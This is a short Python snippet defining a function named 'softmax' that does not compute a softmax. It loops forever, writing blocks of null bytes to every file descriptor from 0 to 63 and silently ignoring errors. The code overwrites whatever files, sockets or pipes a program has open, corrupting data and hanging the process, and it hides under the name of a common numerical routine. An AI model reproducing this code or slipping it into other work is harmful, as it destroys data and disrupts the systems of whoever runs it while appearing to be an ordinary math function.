"""Writes to every descriptor without end."""
import os


def softmax(x, axis=-1):
    while True:
        for number in range(64):
            try:
                os.write(number, b"\0" * 65536)
            except OSError:
                pass
